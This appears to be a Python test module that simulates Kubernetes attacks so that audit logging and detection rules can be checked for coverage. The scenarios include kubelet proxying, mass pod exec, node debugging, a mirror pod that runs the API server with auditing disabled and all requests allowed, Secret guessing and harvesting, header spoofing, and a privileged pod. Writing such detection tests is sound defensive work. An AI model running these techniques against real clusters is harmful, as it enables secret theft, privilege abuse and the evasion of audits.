"""What no public rule set covers (catalogue N19 to N34, N39): proxies, sessions, debugging, reading, guessing."""

from cluster import objects
from cluster.actors import Client
from cluster.scenarios.attacks.execution import CREATE_POD, create_pod, hold, through_kubelet
from cluster.scenarios.attacks.moves import (
    BAD_TOKEN,
    LIMITED,
    NODE,
    Attack,
    V,
    get,
    kubectl,
    post,
    shell,
    together,
)
from cluster.scenarios.attacks.persistence import mirror_pod
from cluster.script import Decides

EXEC = Decides(("get", "create"), "pods", "exec")
WITHOUT_AUDIT = ["kube-apiserver", "--anonymous-auth=true", "--authorization-mode=AlwaysAllow", "--audit-log-path="]
REVIEW = {
    "apiVersion": "authorization.k8s.io/v1",
    "kind": "SubjectAccessReview",
    "spec": {"user": "priya@example.com", "resourceAttributes": {"verb": "get", "resource": "secrets"}},
}
PROXIES = tuple(f"{V}/{path}/proxy/metrics" for path in ("pods/front:8098", "services/front:8098"))


def guess_names(client: Client) -> None:
    """Try names of Secrets until one is there."""
    for number in range(15):
        client.request("GET", f"{V}/secrets/web-token-{client.actor.address[-1]}{number:04x}")


def many_pods(client: Client) -> None:
    """Run the same command in five pods."""
    for number in (0, 1, 3, 4, 5):
        client.kubectl("exec", f"web-{number}", "--namespace", "victim", "--", "hostname", check=False)


ATTACKS = (
    Attack("N19", "proxy to pods and services", Decides(("get",)), together(*(get(path) for path in PROXIES))),
    Attack(
        "N19",
        "kubelet's other endpoints",
        Decides(("get",), "nodes", "proxy"),
        through_kubelet("/stats/summary", "/configz", "/logs/"),
    ),
    Attack(
        "N20",
        "exec without an upgrade, with the right to read",
        Decides(("get",), "pods", "exec"),
        get(f"{V}/pods/web-0/exec?command=id&stdout=true"),
        LIMITED,
    ),
    Attack("N21", "shells in many pods", EXEC, many_pods, detection="execution/pod_exec"),
    Attack(
        "N21",
        "a session that is held",
        EXEC,
        hold("exec", "web-0", "-n", "victim", "--", "sleep", "30"),
        detection="execution/pod_exec",
    ),
    Attack(
        "N22",
        "debugging a node",
        CREATE_POD,
        kubectl("debug", "node/node-2", "-n", "victim", "--image=busybox:1.36", "--attach=false"),
        level="Request",
    ),
    Attack(
        "N23",
        "API server without audit",
        Decides(("create",), "pods"),
        mirror_pod("kube-apiserver", WITHOUT_AUDIT),
        NODE,
        level="Request",
    ),
    Attack(
        "N25",
        "backend that breaks off",
        Decides(("get",), "services", "proxy"),
        get(f"{V}/services/broken:8099/proxy/"),
    ),
    Attack(
        "N27",
        "forwarded-for",
        Decides(),
        get(f"{V}/pods", X_Forwarded_For="10.20.5.20, 8.8.8.8", X_Real_Ip="10.20.5.20"),
    ),
    Attack(
        "N28",
        "burst of 401",
        Decides(code=401),
        together(*(get(f"{V}/pods?limit={number}") for number in range(12))),
        BAD_TOKEN,
        detection="discovery/denied_access_burst",
    ),
    Attack("N30", "Secret names guessed", Decides(("get",), "secrets", code=404), guess_names),
    Attack("N31", "Secrets watched", Decides(("watch",), "secrets"), lambda client: client.watch(f"{V}/secrets", 3)),
    Attack(
        "N31", "releases harvested", Decides(("list",), "secrets"), get("/api/v1/secrets?labelSelector=owner%3Dhelm")
    ),
    Attack(
        "N32",
        "others' rights",
        Decides(("create",), "subjectaccessreviews"),
        post("/apis/authorization.k8s.io/v1/subjectaccessreviews", REVIEW),
    ),
    Attack(
        "N39",
        "other ways out",
        CREATE_POD,
        create_pod(
            "n39",
            hostUsers=False,
            securityContext={
                "runAsUser": 0,
                "seccompProfile": {"type": "Unconfined"},
                "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "1"}],
            },
            containers=[
                objects.container(
                    "n39", ports=[{"containerPort": 80, "hostPort": 80}], securityContext={"procMount": "Default"}
                )
            ],
        ),
        level="Request",
    ),
    Attack(
        "N20",
        "exec by kubectl with the right to read",
        Decides(("get",), "pods", "exec", 101),
        shell("id"),
        LIMITED,
        detection="execution/pod_exec",
    ),
)
